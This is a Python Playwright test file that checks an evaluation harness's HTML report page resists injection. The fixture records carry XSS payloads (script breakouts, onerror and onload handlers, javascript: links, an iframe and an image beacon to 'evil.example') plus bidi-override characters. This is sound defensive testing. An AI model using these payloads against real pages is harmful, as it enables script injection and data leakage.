"""The page of a run in a real browser, made of records whose every text attacks it."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import ViewportSize, expect
from records import case, manifest, write_run

from ecom_fixtures.evaluation.judgement import Conduct, Missing, Verdict
from ecom_fixtures.reporting.page import write_page
from ecom_fixtures.runs.tasks import PlayedTasks
from ecom_fixtures.trajectory import Message, ToolCall
from ecom_fixtures.trial.record import Outcome, Record
from ecom_fixtures.worlds.diff import Change

from .conftest import Opened

pytestmark = pytest.mark.browser

LINK = "https://img.mapleway.example/hose.png"
ATTACKS = (
    "</script><script>window.__pwned = 1</script>",
    '<img src="x" onerror="window.__pwned = 1">',
    "'\"><svg onload=window.__pwned=1><iframe src=https://evil.example></iframe>",
    "javascript:window.__pwned=1",
    "<!--<script>",
    "\u202egnp.exe\u2066 \x00 \u2028 \ud83d",
    "A" * 100_000,
)


def hostile(task: str, trial: int, outcome: Outcome, seconds: float) -> Record:
    everything = " ".join(attack[:200] for attack in ATTACKS)
    missing = (Missing(intent=everything, what=everything, why=everything),)
    change = Change(table=everything, key=everything, column=everything, expected=everything, actual=None)
    calls = [
        ToolCall(tool=attack[:300], arguments={attack[:300]: attack}, result=attack, ok=False, writes=True)
        for attack in ATTACKS
    ]
    links = (LINK, *ATTACKS[:4], "https://evil.example/x.png")
    messages = [
        Message(role=role, text=attack, pictures=links if role == "customer" else ())
        for attack in ATTACKS
        for role in ("agent", "customer")
    ]
    return Record.model_validate(
        {
            **dict.fromkeys(("title", "agent", "customer", "persona", "ended_by", "error"), everything),
            "task": task,
            "number": 1,
            "tags": (everything,),
            "trial": trial,
            "seed": 7,
            "outcome": outcome,
            "seconds": seconds,
            "verdict": Verdict(state_diff=(change,), missing_searches=missing, missing_keywords=missing),
            "conduct": Conduct(unconfirmed=(everything,), forbidden=(everything,), late_searches=(everything,)),
            "customer_notes": (everything,),
            "events": (*messages, *calls),
        }
    )


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a run of two tasks with two trials each, every name and text of which is hostile."""
    folder = tmp_path_factory.mktemp("report")
    records = [
        hostile("refund", 1, Outcome.FAILED, 9.5),
        hostile("refund", 2, Outcome.INFRA_ERROR, 100.0),
        hostile("hose", 1, Outcome.PASSED, 20.0),
        hostile("hose", 2, Outcome.CUSTOMER_FAULT, 0.5),
    ]
    names: dict[str, Any] = dict.fromkeys(
        ("run", "created", "agent", "customer", "world", "python", "platform"), ATTACKS[1]
    )
    plan = manifest(
        cases=[case(task, trial) for trial in (1, 2) for task in ("refund", "hose")],
        **names,
        versions={ATTACKS[0]: ATTACKS[1]},
        fingerprints={ATTACKS[0]: ATTACKS[1]},
        settings={"count": 2, ATTACKS[0]: ATTACKS[1]},
    )
    (folder / "pictures").mkdir()
    Image.new("RGB", (4, 4), (255, 128, 32)).save(folder / "pictures" / "hose.webp")
    played = PlayedTasks(pictures={LINK: "hose.webp"})
    return write_page(write_run(folder, plan, records, played))


@pytest.fixture
def opened(visit: Callable[[Path], Opened], report: Path) -> Opened:
    return visit(report)


def test_nothing_that_was_said_runs_or_calls_out(opened: Opened) -> None:
    page, seen, _ = opened
    for trial in ("refund/01", "refund/02", "hose/01", "hose/02"):
        opened.transcript(trial)
        for summary in page.locator("#ecom-dialog summary").all():
            summary.click()
        more = page.locator("#ecom-dialog .ecom-more")
        while more.count():
            more.first.click()
        page.keyboard.press("Escape")
    page.get_by_text("Settings of the run").click()
    page.wait_for_timeout(200)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("iframe, svg[onload], img[onerror]").count() == 0
    assert seen.alerts == []
    assert seen.console == []
    assert [url for url in seen.requests if not url.startswith(("file:", "data:", "blob:"))] == []


@pytest.mark.parametrize("attack", ['<img src=x onerror="window.__pwned=1">', "<a href='javascript:window.__pwned=1'>"])
def test_even_markup_that_gets_into_the_page_does_not_run(opened: Opened, attack: str) -> None:
    page = opened.page
    page.evaluate("html => { document.body.insertAdjacentHTML('beforeend', html); }", attack)
    page.evaluate("document.body.lastElementChild.click()")
    page.wait_for_timeout(200)
    assert page.evaluate("typeof window.__pwned") == "undefined"


def test_even_a_picture_of_another_host_that_gets_into_the_page_is_not_fetched(opened: Opened) -> None:
    opened.page.evaluate("() => { new Image().src = 'https://evil.example/?leak'; }")
    opened.page.wait_for_timeout(200)
    assert any("Content Security Policy" in line for line in opened.seen.console)


def test_markup_is_read_as_it_was_said(opened: Opened) -> None:
    opened.transcript("refund/01")
    bubbles = opened.page.locator(".ecom-message.ecom-agent .ecom-text")
    assert [bubbles.nth(number).inner_text() for number in range(5)] == list(ATTACKS[:5])


def test_characters_that_reorder_text_are_written_out(opened: Opened) -> None:
    opened.transcript("refund/01")
    bubble = opened.page.locator(".ecom-message.ecom-agent .ecom-text").nth(5)
    expect(bubble).to_have_text("⟨U+202E⟩gnp.exe⟨U+2066⟩ ⟨U+0000⟩ ⟨U+2028⟩ \ufffd")


def test_a_long_message_is_cut_until_it_is_asked_for(opened: Opened) -> None:
    opened.transcript("refund/01")
    bubble = opened.page.locator(".ecom-message.ecom-agent .ecom-text").nth(6)
    assert len(bubble.inner_text()) < 5_000
    bubble.get_by_role("button", name="Show all 100,000 characters").click()
    assert bubble.inner_text() == ATTACKS[6]


def test_only_the_datasets_picture_is_drawn(opened: Opened) -> None:
    opened.transcript("refund/01")
    pictures = opened.page.locator("#ecom-dialog .ecom-message").nth(1).locator("img")
    assert pictures.count() == 1
    assert pictures.first.evaluate("image => image.decode().then(() => image.naturalWidth)") == 4


def test_the_verdict_stands_beside_the_conversation(opened: Opened) -> None:
    opened.transcript("refund/01")
    verdict = opened.page.get_by_role("complementary", name="Verdict")
    verdict.get_by_text("Cell by cell").click()
    expect(verdict.locator(".ecom-diff tbody tr")).to_have_count(1)
    for title in ("Action", "Search", "Output", "Conduct: change without the customer's yes"):
        expect(verdict.get_by_role("heading", name=title)).to_be_visible()


def test_the_list_of_tasks_can_be_ordered_by_what_was_solved(opened: Opened) -> None:
    opened.page.get_by_label("Order").select_option("least solved first")
    rows = opened.page.locator(".ecom-tasks li .ecom-score").all_inner_texts()
    assert rows == ["0/2", "1/2"]
    opened.transcript("hose/02")
    expect(opened.page.locator("#ecom-dialog .ecom-about")).to_contain_text("hose · trial 2")


def test_a_square_of_the_summary_opens_its_trial(opened: Opened) -> None:
    opened.transcript("hose/01")
    expect(opened.page.locator("#ecom-dialog .ecom-head")).to_contain_text("hose · trial 1")


def test_the_address_of_an_open_transcript_opens_it_again(opened: Opened) -> None:
    page = opened.page
    opened.transcript("refund/02")
    link = page.url
    assert link.endswith("#trial=refund/02")
    page.goto("about:blank")
    page.goto(link)
    expect(page.locator("#ecom-dialog .ecom-head")).to_contain_text("refund · trial 2")


@pytest.mark.parametrize("hash_", ["#trial=nobody/01", "#trial=%E0%A4%A", "#trial=<img src=x onerror=alert(1)>"])
def test_a_link_to_no_trial_opens_nothing(opened: Opened, hash_: str) -> None:
    opened.page.goto("about:blank")
    opened.page.goto(opened.address + hash_)
    assert not opened.page.locator("#ecom-dialog").evaluate("dialog => dialog.open")
    assert opened.seen.console == []


def test_escape_closes_the_transcript_and_clears_the_address(opened: Opened) -> None:
    opened.transcript("refund/01")
    opened.page.keyboard.press("Escape")
    expect(opened.page.locator("#ecom-dialog")).to_be_hidden()
    expect(opened.page).not_to_have_url(re.compile("#trial"))


def test_the_arrow_keys_and_buttons_lead_through_the_trials(opened: Opened) -> None:
    head = opened.page.locator("#ecom-dialog .ecom-head")
    opened.transcript("refund/01")
    expect(head.get_by_role("button", name="Previous")).to_be_disabled()
    opened.page.keyboard.press("ArrowRight")
    expect(head).to_contain_text("refund · trial 2")
    head.get_by_role("button", name="Next").click()
    expect(head).to_contain_text("hose · trial 1")
    opened.page.keyboard.press("ArrowLeft")
    expect(head).to_contain_text("refund · trial 2")


def test_a_transcript_can_be_copied_as_text(opened: Opened) -> None:
    page = opened.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    opened.transcript("refund/01")
    page.get_by_role("button", name="Copy as text").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert f"Customer: {ATTACKS[1]}\n" in page.evaluate("navigator.clipboard.readText()")


def test_on_a_phone_nothing_is_wider_than_the_screen(opened: Opened) -> None:
    page = opened.page
    page.set_viewport_size(ViewportSize(width=400, height=800))
    assert page.evaluate("document.documentElement.scrollWidth") == 400
    opened.transcript("refund/01")
    assert page.locator(".ecom-body").evaluate("body => body.scrollWidth - body.clientWidth") <= 0


def test_the_page_is_dark_where_the_reader_wants_it_dark(opened: Opened) -> None:
    background = "getComputedStyle(document.body).backgroundColor"
    light = opened.page.evaluate(background)
    opened.page.emulate_media(color_scheme="dark")
    assert opened.page.evaluate(background) != light
